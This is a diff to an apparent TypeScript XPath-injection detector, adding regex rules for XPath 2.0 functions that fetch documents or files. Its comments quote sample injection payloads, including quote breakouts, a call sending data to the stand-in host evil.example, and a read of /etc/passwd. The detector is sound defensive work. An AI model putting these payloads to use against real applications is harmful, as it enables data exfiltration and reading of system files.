@@ -6,6 +6,7 @@
  * - node functions with no arguments compared or used after a quote breakout: `' or name()='admin`,
  *   `[position()=1]`, `text()='x'` (jQuery's `.text()` is a method call, not this);
  * - axes: `child::node()`, `descendant-or-self::*`, `following-sibling::user`;
+ * - XPath 2.0's fetching functions after a breakout: `' and doc-available(concat('//evil.example/', ...))`;
  * - predicates on a descendant path: `//user[@name=...]`, `//*[1]`;
  * - a predicate closed and a second path joined by the union: `'] | //user/*`, `'] | //@*`, or the path
  *   going on from the selected node: `')]/../*`, or a second predicate on it: `'][@role='admin`;
@@ -23,7 +24,7 @@ import { finding } from "./text.ts";
 const find = (rule: string, strength: number, start: number, end: number): Finding => finding("xpath", `xpath.${rule}`, strength, start, end);
 
 /** Group 1: the argument's start. `/` alone or `name(/` reads the root; `//`, `@`, `.`, `*` are what selectors use. */
-const PATH_FUNCTION = /\b(?:count|name|local-name|namespace-uri|string-length|substring|string|normalize-space|contains|starts-with|translate|boolean|number|sum)\s*\(\s*(name\s*\(\s*\/|\/\/|\/|\.\.?\/|@|\*\s*\)|(?:child|parent|self|descendant|ancestor)::)/gi;
+const PATH_FUNCTION = /\b(?:count|name|local-name|namespace-uri|string-length|substring|string|normalize-space|contains|starts-with|translate|boolean|number|sum|concat|string-to-codepoints|lower-case|upper-case|matches|exists|data)\s*\(\s*(name\s*\(\s*\/|\/\/|\/|\.\.?\/|@|\*\s*\)|(?:child|parent|self|descendant|ancestor)::)/gi;
 const NODE_FUNCTION = /(^|[^\w.$])(?:name|local-name|text|node|position|last|comment)\s*\(\s*\)/gi;
 /**
  * `parent` and `self` only before a node test of XPath's own (`parent::*`, `self::node()`): PHP and C++
@@ -61,6 +62,12 @@ function pathBreakout(text: string): RegExpExecArray | null {
 }
 
 /**
+ * XPath 2.0's functions that fetch (`doc('http://evil.example/?'||...)`, `doc-available(concat(...))`,
+ * `unparsed-text('/etc/passwd')`): after a breakout they send the document out or read a file.
+ */
+const FETCH_FUNCTION = /\b(?:doc|doc-available|unparsed-text|unparsed-text-available|unparsed-text-lines|collection)\s*\(/gi;
+
+/**
  * A quoted string closed, then an XPath 2.0 comment (`(: ... :)`, which SQL and prose never write) where
  * a blank would do, then `or`, `and` or the union: `'(: c :)or(: c :)'1'='1`, spelled so to pass a filter
  * that looks for ` or `.
@@ -68,7 +75,7 @@ function pathBreakout(text: string): RegExpExecArray | null {
 const COMMENT_BREAKOUT = /['"][\s)\]]*\(:[^\r\n]{0,200}?:\)\s*(?:or|and|\|)/i;
 
 /** Cheap check, one pass: something each construct below needs. */
-const XPATH_HINT = /\(:|\[[^\][]{0,200}?\bor\s|['"][\s)]*\]\s*[/[]|\(\s*(?:\)|name\s*\(|[/.@*]|child::|parent::|self::|descendant::|ancestor::)|::|\/\/[\w*][\w.-]*\[|\]\s*\|/;
+const XPATH_HINT = /\(:|\b(?:doc|doc-available|unparsed-text[\w-]*|collection)\s*\(|\[[^\][]{0,200}?\bor\s|['"][\s)]*\]\s*[/[]|\(\s*(?:\)|name\s*\(|[/.@*]|child::|parent::|self::|descendant::|ancestor::)|::|\/\/[\w*][\w.-]*\[|\]\s*\|/;
 /**
  * Just before a construct: a quoted string (and any predicate or call it sat in) closed, then `or`,
  * `and` or `|`; or the union `|` alone, which joins a second path to the query.
@@ -144,6 +151,8 @@ export const xpathAnalyzer: Analyzer = {
     if (path) out.push(find("path-breakout", 0.85, path.index, path.index + path[0].length));
     if (union) out.push(find("union-breakout", 0.85, union.index, union.index + union[0].length));
     else if (unopenedUnion) out.push(find("union-breakout", 0.85, unopened, unopened + unopenedUnion[0].length));
+    const fetch = firstMatch(FETCH_FUNCTION, text);
+    if (fetch && breakoutBefore(text, fetch.index, unopened)) out.push(find("fetch-function", 0.85, fetch.index, fetch.index + fetch[0].length));
     const commented = text.indexOf("(:") === -1 ? null : COMMENT_BREAKOUT.exec(text);
     if (commented) out.push(find("comment-breakout", 0.85, commented.index, commented.index + commented[0].length));
     const tautology = PREDICATE_TAUTOLOGY.exec(text);
